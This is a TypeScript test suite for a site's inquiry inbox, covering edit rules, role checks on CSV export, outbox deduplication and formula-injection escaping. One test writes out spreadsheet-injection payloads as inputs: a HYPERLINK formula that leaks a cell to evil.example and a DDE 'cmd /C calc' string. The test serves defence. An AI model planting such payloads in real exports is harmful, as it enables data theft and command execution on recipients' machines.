import { randomBytes } from 'node:crypto'

import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'

import { as, createAccount, type Account } from '../support/accounts'
import { asAdmin, asAdminJson, baseUrl } from '../support/api'
import { startApp, type AppServer } from '../support/app-server'
import { postInquiry, receivedMail, validInquiry, waitForMail } from '../support/inquiries'
import { readUntil } from '../support/poll'

interface StoredInquiry {
  id: number
  name: string
  email: string
  message: string
  phone?: string | null
  service?: string | null
  locale: string
  channel: string
  status: string
  note?: string | null
}

async function findInquiry(email: string): Promise<StoredInquiry> {
  const { docs } = await asAdminJson<{ docs: StoredInquiry[] }>(
    `/api/inquiries?where[email][equals]=${encodeURIComponent(email)}`,
  )
  expect(docs).toHaveLength(1)
  return docs[0]!
}

async function submitted(overrides: Record<string, unknown> = {}, base?: string) {
  const inquiry = validInquiry(overrides)
  const response = await postInquiry(inquiry, { baseUrl: base })
  expect(response.status).toBe(201)
  return inquiry as { name: string; email: string; message: string } & Record<string, unknown>
}

const exportCsv = (
  init: RequestInit,
  where: Record<string, unknown>,
  collectionSlug = 'inquiries',
) =>
  fetch(`${baseUrl()}/api/exports/download`, {
    method: 'POST',
    ...init,
    headers: { 'Content-Type': 'application/json', ...init.headers },
    body: JSON.stringify({ data: { collectionSlug, format: 'csv', where } }),
  })

let editor: Account
let author: Account
let db: pg.Client

beforeAll(async () => {
  editor = await createAccount('editor')
  author = await createAccount('author')
  db = new pg.Client({ connectionString: inject('databaseUrl') })
  await db.connect()
})

afterAll(async () => {
  await db?.end()
})

describe('the inquiry inbox', () => {
  it('a new inquiry is "new"; status and note change, what the sender wrote does not', async () => {
    const sent = await submitted({ phone: '+34 600 000 000', service: 'Cloud migration' })
    const before = await findInquiry(sent.email)
    expect(before.status).toBe('new')

    const response = await as(editor, `/api/inquiries/${before.id}`, {
      method: 'PATCH',
      body: JSON.stringify({
        name: 'Someone Else',
        email: 'changed@example.com',
        message: 'A different message',
        phone: '+1 555',
        service: 'Other',
        locale: before.locale === 'en' ? 'es' : 'en',
        channel: 'mcp',
        status: 'replied',
        note: 'Called back on Monday.',
      }),
    })
    expect(response.status).toBe(200)

    const after = await findInquiry(sent.email)
    expect(after).toMatchObject({
      name: before.name,
      email: before.email,
      message: before.message,
      phone: before.phone,
      service: before.service,
      locale: before.locale,
      channel: before.channel,
      status: 'replied',
      note: 'Called back on Monday.',
    })
  })

  it('an admin cannot change what the sender wrote either', async () => {
    const sent = await submitted()
    const { id } = await findInquiry(sent.email)
    const response = await asAdmin(`/api/inquiries/${id}`, {
      method: 'PATCH',
      body: JSON.stringify({ message: 'Rewritten', status: 'spam' }),
    })
    expect(response.status).toBe(200)
    expect(await findInquiry(sent.email)).toMatchObject({ message: sent.message, status: 'spam' })
  })

  it('the list filters by status and searches name, email and message', async () => {
    const marker = `zebra${Date.now().toString(36)}`
    const sent = await submitted({ message: `Please call about the ${marker} project.` })
    const { id } = await findInquiry(sent.email)
    await as(editor, `/api/inquiries/${id}`, {
      method: 'PATCH',
      body: JSON.stringify({ status: 'closed' }),
    })
    const closed = await as(
      editor,
      `/api/inquiries?where[and][0][status][equals]=closed&where[and][1][message][like]=${marker}`,
    )
    expect(((await closed.json()) as { docs: { id: number }[] }).docs.map((doc) => doc.id)).toEqual(
      [id],
    )
    const stillNew = await as(
      editor,
      `/api/inquiries?where[and][0][status][equals]=new&where[and][1][message][like]=${marker}`,
    )
    expect(((await stillNew.json()) as { totalDocs: number }).totalDocs).toBe(0)
  })
})

describe('CSV export of the inbox', () => {
  it('an editor exports the inquiries a filter selects, as CSV', async () => {
    const kept = await submitted()
    const other = await submitted()
    const response = await exportCsv(
      { headers: { Authorization: editor.authorization } },
      { email: { equals: kept.email } },
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/text\/csv/)
    const csv = await response.text()
    const [header, ...rows] = csv.trim().split('\n')
    expect(header).toContain('email')
    expect(header).toContain('status')
    expect(rows).toHaveLength(1)
    expect(rows[0]).toContain(kept.email)
    expect(csv).not.toContain(other.email)
  })

  it('is refused to anonymous callers (401) and authors (403), in the project’s error shape', async () => {
    const sent = await submitted()
    const where = { email: { equals: sent.email } }
    const anonymous = await exportCsv({}, where)
    expect(anonymous.status).toBe(401)
    expect(await anonymous.json()).toMatchObject({ error: { code: 'unauthorized' } })
    const byAuthor = await exportCsv({ headers: { Authorization: author.authorization } }, where)
    expect(byAuthor.status).toBe(403)
    const body = await byAuthor.text()
    expect(JSON.parse(body)).toMatchObject({ error: { code: 'forbidden' } })
    expect(body).not.toContain(sent.email)
  })

  it('exports no other collection, to anyone (accounts included)', async () => {
    for (const collectionSlug of ['users', 'payload-jobs', 'posts']) {
      const response = await exportCsv(
        { headers: { Authorization: editor.authorization } },
        {},
        collectionSlug,
      )
      expect(response.status).toBe(403)
      expect(await response.text()).not.toContain('@example.test')
    }
  })

  it('writes what senders typed as text a spreadsheet never evaluates, in every column', async () => {
    const email = `-${randomBytes(6).toString('hex')}+x@example.com`
    const sent = await submitted({
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      email,
      message: "@SUM(1+1)*cmd|' /C calc'!A0\n=2+2;=3+3",
      phone: '+34 600 000 000',
      service: '-2+3',
    })
    const response = await exportCsv(
      { headers: { Authorization: editor.authorization } },
      { email: { equals: sent.email } },
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/text\/csv/)
    const bytes = new Uint8Array(await response.arrayBuffer())
    // UTF-8 with its byte order mark, as spreadsheets need to read it as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const csv = new TextDecoder().decode(bytes)
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"')
    expect(csv).toContain(`"'${email}"`)
    expect(csv).toContain("\"'@SUM(1+1)*cmd|' /C calc'!A0\n=2+2;=3+3\"")
    expect(csv).toContain('"\'+34 600 000 000"')
    expect(csv).toContain('"\'-2+3"')
    // Every cell of every column, the header's included, is quoted: no cell begins unquoted.
    const cells = /"(?:[^"]|"")*"/g
    const rest = csv.replace(cells, '')
    expect(rest).toMatch(/^[,\n]*$/)
  })

  it('is downloaded, never saved as a file on the server', async () => {
    const sent = await submitted({ name: '=1+1' })
    const saved = await as(editor, '/api/exports', {
      method: 'POST',
      body: JSON.stringify({
        collectionSlug: 'inquiries',
        format: 'csv',
        where: { email: { equals: sent.email } },
      }),
    })
    expect(saved.status).toBe(403)
    expect(await saved.json()).toMatchObject({ error: { code: 'forbidden' } })
    const { totalDocs } = await asAdminJson<{ totalDocs: number }>('/api/exports')
    expect(totalDocs).toBe(0)
  })

  it('the plugin’s export records and preview are for editors only', async () => {
    expect((await fetch(`${baseUrl()}/api/exports`)).status).toBe(403)
    expect((await as(author, '/api/exports')).status).toBe(403)
    const preview = await fetch(`${baseUrl()}/api/exports/export-preview`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ collectionSlug: 'inquiries', format: 'csv' }),
    })
    expect(preview.status).toBe(401)
    // Nobody imports: inquiries come in only through the inquiry service.
    const imported = await as(editor, '/api/imports', {
      method: 'POST',
      body: JSON.stringify({ collectionSlug: 'inquiries' }),
    })
    expect(imported.status).toBe(403)
  })
})

const acknowledgementRows = async (inquiryId: number) =>
  (
    await db.query<{ status: string }>(`select status from mail_outbox where dedupe_key = $1`, [
      `inquiry-acknowledgement:${inquiryId}`,
    ])
  ).rows

const mailTo = (email: string) => receivedMail().filter((mail) => mail.envelopeTo.includes(email))

describe('acknowledgement to the sender', () => {
  it('is off by default: the team gets the inquiry, the sender gets nothing', async () => {
    const sent = await submitted()
    const { id } = await findInquiry(sent.email)
    // The team's mail has gone out, so the inquiry was fully processed.
    await waitForMail((mail) => mail.headers.get('reply-to')?.includes(sent.email) ?? false)
    expect(await acknowledgementRows(id)).toEqual([])
    expect(mailTo(sent.email)).toEqual([])
  })

  describe('with INQUIRY_ACKNOWLEDGEMENT=on', () => {
    let acknowledging: AppServer

    beforeAll(async () => {
      acknowledging = await startApp(`ack-${process.env.TEST_RUN_ID ?? 'main'}`, {
        ...inject('appEnv'),
        INQUIRY_ACKNOWLEDGEMENT: 'on',
      })
    })

    afterAll(async () => {
      await acknowledging?.stop()
    })

    it('sends one acknowledgement in the inquiry’s language that repeats nothing it said', async () => {
      const sent = await submitted(
        {
          name: 'Buy Cheap Pills',
          message: 'Visit https://spam.example/offer for cheap pills now',
          locale: 'es',
          service: 'Spam service',
        },
        acknowledging.url,
      )
      const [mail, ...more] = await waitForMail((candidate) =>
        candidate.envelopeTo.includes(sent.email),
      )
      expect(more).toEqual([])
      expect(mail!.headers.get('subject')).toMatch(/Hemos recibido tu consulta/)
      expect(mail!.headers.get('content-language')).toBe('es')
      expect(mail!.headers.get('to')).toBe(sent.email)
      for (const echoed of ['Buy Cheap Pills', 'spam.example', 'pills', 'Spam service']) {
        expect(mail!.raw).not.toContain(echoed)
      }
      const english = await submitted({ locale: 'en' }, acknowledging.url)
      const [englishMail] = await waitForMail((candidate) =>
        candidate.envelopeTo.includes(english.email),
      )
      expect(englishMail!.headers.get('subject')).toMatch(/We received your inquiry/)
    })

    it('exists once per inquiry: asking again stores nothing, and it is sent once', async () => {
      const sent = await submitted({}, acknowledging.url)
      const { id } = await findInquiry(sent.email)
      await waitForMail((candidate) => candidate.envelopeTo.includes(sent.email))
      // A second enqueue for the same inquiry (a retry, another instance) is refused by the key.
      const again = await db.query(
        `insert into mail_outbox (purpose, dedupe_key, recipient, message)
         values ('acknowledgement', $1, $2, '{}') on conflict (dedupe_key) do nothing`,
        [`inquiry-acknowledgement:${id}`, sent.email],
      )
      expect(again.rowCount).toBe(0)
      expect(await acknowledgementRows(id)).toEqual([{ status: 'sent' }])
      expect(mailTo(sent.email)).toHaveLength(1)
    })

    it('a message left mid-send by a stopped process is never sent a second time', async () => {
      const recipient = `mid-send-${Date.now()}@example.com`
      await db.query(
        `insert into mail_outbox (purpose, recipient, message, status, attempts, lease_until)
         values ('acknowledgement', $1, $2, 'sending', 1, now() - interval '1 second')`,
        [
          recipient,
          JSON.stringify({ to: recipient, subject: 'x', text: 'x', messageId: '<x@example.test>' }),
        ],
      )
      const status = await readUntil(
        async () => {
          const { rows } = await db.query<{ status: string }>(
            'select status from mail_outbox where recipient = $1',
            [recipient],
          )
          return rows[0]!.status
        },
        (current) => current !== 'sending',
        { withinMs: 10_000, everyMs: 100 },
      )
      expect(status).toBe('failed')
      expect(mailTo(recipient)).toEqual([])
    })
  })
})
